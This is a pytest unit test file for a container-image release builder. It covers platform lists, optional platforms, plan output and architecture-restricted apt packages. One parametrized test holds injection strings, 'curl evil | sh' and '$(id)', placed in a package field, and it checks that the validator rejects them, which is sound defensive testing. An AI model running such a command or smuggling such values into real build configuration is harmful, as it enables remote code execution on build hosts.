"""`platforms:` of a release row: the host's platform always, each platform once, optional
ones among them; `plan` shows them and `release` will not publish a tag without one."""

from __future__ import annotations

import json

import pytest

from ngc_builder.commands.plan import PlanOptions, plan_command
from ngc_builder.errors import InputError
from ngc_builder.manifest.load import load_release
from ngc_builder.manifest.platforms import packages_for
from ngc_builder.plan.dag import ancestors, optional_platform, plan_release
from tests.conftest import WriteRelease
from tests.unit.conftest import GOOD_RELEASE
from tests.unit.locks import write_platform_lock

pytestmark = pytest.mark.unit
ARM = "linux/arm64"


def jax_row(extra: str) -> str:
    return GOOD_RELEASE.replace('    version: "0.12.0"\n', f'    version: "0.12.0"\n{extra}')


def problems(write_release: WriteRelease, text: str) -> list[str]:
    with pytest.raises(InputError) as caught:
        load_release(write_release(text, lock=False))
    return [str(p) for p in caught.value.problems]


def test_the_default_is_the_host_platform_alone(write_release: WriteRelease) -> None:
    loaded = load_release(write_release(GOOD_RELEASE, lock=False))
    assert [entry.platforms for entry in loaded.release.images] == [["linux/amd64"]] * 2


@pytest.mark.parametrize(("extra", "message"), [
    ("    platforms: [linux/arm64]\n",
     "platforms must include linux/amd64: every image ships the build host's platform"),
    ("    platforms: [linux/amd64, linux/amd64]\n", "platforms lists a platform twice"),
    ("    platforms: [linux/amd64]\n    optional_platforms: [linux/arm64]\n",
     "optional_platforms names platforms the image does not list: ['linux/arm64']"),
    ("    platforms: [linux/amd64, linux/arm64]\n    optional_platforms: [linux/amd64]\n",
     "linux/amd64 cannot be optional"),
])
def test_platform_mistakes_name_the_row(write_release: WriteRelease, extra: str,
                                        message: str) -> None:
    found = problems(write_release, jax_row(extra))
    assert len(found) == 1 and found[0].startswith("releases/26.11.yaml:")
    assert "images[1]" in found[0] and message in found[0]


def test_an_unknown_platform_names_its_line(write_release: WriteRelease) -> None:
    found = problems(write_release, jax_row("    platforms: [linux/amd64, linux/riscv64]\n"))
    assert found[0].startswith("releases/26.11.yaml:26: images[1].platforms[1]:")
    assert "'linux/amd64' or 'linux/arm64'" in found[0]


def test_plan_shows_each_image_s_platforms(write_release: WriteRelease,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    manifest = write_release(jax_row("    platforms: [linux/amd64, linux/arm64]\n"), lock=False)
    write_platform_lock(manifest)
    assert plan_command(PlanOptions(manifest), engine=None) == 0
    rows = {line.split()[0]: line for line in capsys.readouterr().out.splitlines()
            if not line.startswith(" ")}
    assert rows["base"].endswith("[linux/amd64, linux/arm64]")
    assert rows["pytorch"].endswith("[linux/amd64]")
    assert rows["jax"].endswith("[linux/amd64, linux/arm64]")


def test_a_shared_layer_may_go_without_a_platform_only_when_every_image_above_may(
        write_release: WriteRelease) -> None:
    """The failure policy's reading of `optional_platforms` (pipeline/platforms.py)."""
    both = "    platforms: [linux/amd64, linux/arm64]\n"
    required = plan_release(load_release(write_release(jax_row(both), lock=False)))
    optional = plan_release(load_release(write_release(
        jax_row(both + "    optional_platforms: [linux/arm64]\n"), lock=False)))
    verdicts = {name: (optional_platform(required, required.get(name), ARM),
                       optional_platform(optional, optional.get(name), ARM))
                for name in ("base", "jax")}
    assert verdicts == {"base": (False, True), "jax": (False, True)}
    pytorch = optional.get("pytorch")  # ships amd64 alone: nothing of arm64 is its to drop
    assert not optional_platform(optional, pytorch, ARM)
    assert ancestors(optional, optional.get("jax")) >= {"base"}


def test_a_layer_package_may_be_restricted_to_some_architectures() -> None:
    wanted = ["libquadmath0 [amd64]", "libgomp1", "libfoo [arm64 amd64]"]
    assert packages_for(wanted, "linux/amd64") == ["libquadmath0", "libgomp1", "libfoo"]
    assert packages_for(wanted, ARM) == ["libgomp1", "libfoo"]


@pytest.mark.parametrize(("package", "message"), [
    ("libquadmath0 [amd64]; curl evil | sh", "is not a valid Debian package"),
    ("libquadmath0 [amd64 $(id)]", "is not a valid Debian package"),
    ("libquadmath0 [riscv64]", "names architectures no platform has: ['riscv64']"),
    ("libquadmath0 []", "is not a valid Debian package"),
])
def test_a_hostile_architecture_restriction_names_the_framework_file(
        write_release: WriteRelease, package: str, message: str) -> None:
    folder = write_release(GOOD_RELEASE, lock=False).parent.parent / "frameworks" / "pytorch"
    spec = folder / "framework.yaml"
    spec.write_text(spec.read_text().replace('["libquadmath0 [amd64]"]', json.dumps([package])))
    found, missing = problems(write_release, GOOD_RELEASE)
    assert missing.endswith("images[0].framework: no complete frameworks/pytorch/ folder")
    assert found.startswith("frameworks/pytorch/framework.yaml:10: apt_packages[0]: ")
    assert message in found
